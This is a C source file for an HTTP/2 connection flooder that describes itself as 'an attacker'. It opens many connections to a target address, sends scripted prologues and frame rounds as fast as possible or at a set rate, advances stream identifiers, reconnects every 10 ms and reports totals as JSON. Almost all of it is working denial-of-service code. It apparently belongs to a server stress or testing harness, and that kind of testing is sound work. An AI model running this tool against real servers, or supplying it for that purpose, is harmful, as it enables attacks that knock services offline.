// An attacker with one HTTP/2 connection: sends a prologue, then rounds of frames as fast as it may, or so many per second.
// When the connection ends it opens another after 10 ms, for as long as it lives. One line of JSON on stdout at the start, and of all that
// was done so far at each SIGUSR1 and, as the last, at SIGTERM.
//
//   flood ADDRESS:PORT SCRIPT [-r ROUNDS_PER_SECOND] [-n] [-c CONNECTIONS]
//
// SCRIPT: four numbers of 32 bits, little endian: octets of the prologue, octets of a round, what each round adds to the stream
// identifiers of its frames, and after how many rounds the connection is begun anew (0: never); then prologue and round.
// -n: what the server says is never read.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { bufferBytes = 1 << 20, pieceMax = 128 << 10, connectionsMax = 512 };
static uint32_t script[4];
static unsigned char *prologue, *round_, *buffer[connectionsMax], scratch[1 << 16];
static struct { int fd; size_t from, to; uint64_t rounds, again; } all[connectionsMax];
static uint64_t sent, received, rounds, opened, ended;
static volatile sig_atomic_t over, asked;

static void stop(int signal) { (void)signal, over = 1; }
static void ask(int signal) { (void)signal, asked = 1; }

static uint64_t now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000000000ull + t.tv_nsec;
}

static struct sockaddr_in to = {.sin_family = AF_INET};

static void dial(int i) {
    int one = 1, fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0 || connect(fd, (void *)&to, sizeof to)) {
        if (fd >= 0) close(fd);
        all[i].fd = -1, all[i].again = now() + 10000000;
        return;
    }
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    fcntl(fd, F_SETFL, O_NONBLOCK);
    memcpy(buffer[i], prologue, script[0]);
    all[i].fd = fd, all[i].from = 0, all[i].to = script[0], all[i].rounds = 0;
    opened++;
}

static void drop(int i) {
    close(all[i].fd);
    all[i].fd = -1, all[i].again = now() + 10000000;
    ended++;
}

/// One more round behind what waits, its stream identifiers moved on.
static void compose(int i) {
    unsigned char *at = buffer[i] + all[i].to, *end = at + script[1];
    memcpy(at, round_, script[1]);
    uint32_t step = (uint32_t)(all[i].rounds * script[2]);
    for (; step && at + 9 <= end; at += 9 + (at[0] << 16 | at[1] << 8 | at[2])) {
        uint32_t stream = (uint32_t)at[5] << 24 | at[6] << 16 | at[7] << 8 | at[8];
        if (!stream) continue;
        stream += step;
        at[5] = stream >> 24 & 127, at[6] = stream >> 16, at[7] = stream >> 8, at[8] = stream;
    }
    all[i].to += script[1];
    all[i].rounds++;
    rounds++;
}

static void report(uint64_t began) {
    printf("{\"sent\":%llu,\"received\":%llu,\"rounds\":%llu,\"opened\":%llu,\"ended\":%llu,\"seconds\":%.6f}\n", (unsigned long long)sent,
           (unsigned long long)received, (unsigned long long)rounds, (unsigned long long)opened, (unsigned long long)ended, (now() - began) / 1e9);
    fflush(stdout);
}

int main(int argc, char **argv) {
    int option, silent = 0, connections = 1;
    double rate = 0;
    while ((option = getopt(argc, argv, "r:nc:")) > 0) switch (option) {
        case 'r': rate = atof(optarg); break;
        case 'n': silent = 1; break;
        case 'c': connections = atoi(optarg); break;
        default: return 64;
        }
    FILE *file = argc - optind == 2 ? fopen(argv[optind + 1], "rb") : NULL;
    if (!file || connections > connectionsMax || fread(script, 4, 4, file) != 4 || script[0] > bufferBytes / 2 || !script[1] || script[1] > bufferBytes / 2) return 64;
    prologue = malloc(script[0] + 1), round_ = malloc(script[1]);
    if (fread(prologue, 1, script[0], file) != script[0] || fread(round_, 1, script[1], file) != script[1]) return 64;
    char *colon = strchr(argv[optind], ':');
    if (!colon) return 64;
    *colon = 0;
    to.sin_port = htons(atoi(colon + 1));
    if (inet_pton(AF_INET, argv[optind], &to.sin_addr) != 1) return 64;
    signal(SIGPIPE, SIG_IGN);
    signal(SIGTERM, stop);
    signal(SIGUSR1, ask);
    for (int i = 0; i < connections; i++) buffer[i] = malloc(bufferBytes), dial(i);
    uint64_t began = now(), last = began;
    double credit = rate > 0 ? 0 : 1;
    report(began);
    struct pollfd wait[connectionsMax];
    while (!over) {
        uint64_t time = now();
        if (asked) asked = 0, report(began);
        // What was not sent when it was due, for the server did not read or the attacker was stopped, is not made up for.
        if (rate > 0) credit = credit + (time - last) / 1e9 * rate < 1 + rate / 50 ? credit + (time - last) / 1e9 * rate : 1 + rate / 50, last = time;
        int idle = 1;
        for (int i = 0; i < connections; i++) {
            wait[i] = (struct pollfd){.fd = all[i].fd, .events = silent ? 0 : POLLIN};
            if (all[i].fd < 0) {
                if (time >= all[i].again) dial(i);
                continue;
            }
            if (all[i].from == all[i].to) {
                all[i].from = all[i].to = 0;
                if ((script[3] && all[i].rounds >= script[3]) || (script[2] && (all[i].rounds + 100000) * script[2] > INT32_MAX)) {
                    drop(i);
                    continue;
                }
                double price = rate > 0;
                for (; all[i].to + script[1] <= pieceMax && credit >= 1 && !(script[3] && all[i].rounds >= script[3]); credit -= price) compose(i);
                if (!all[i].to && credit >= 1) compose(i), credit -= price;
            }
            if (all[i].from < all[i].to) {
                size_t left = all[i].to - all[i].from;
                ssize_t n = send(all[i].fd, buffer[i] + all[i].from, left < pieceMax ? left : pieceMax, MSG_NOSIGNAL);
                if (n > 0) all[i].from += n, sent += n, idle = 0;
                else if (errno == EAGAIN) wait[i].events |= POLLOUT;
                else drop(i);
            }
            if (silent || all[i].fd < 0) continue;
            ssize_t n = recv(all[i].fd, scratch, sizeof scratch, 0);
            if (n > 0) received += n;
            else if (n == 0 || errno != EAGAIN) drop(i);
        }
        if (idle) poll(wait, connections, rate > 0 || ended ? 1 : 100);
    }
    report(began);
    return 0;
}
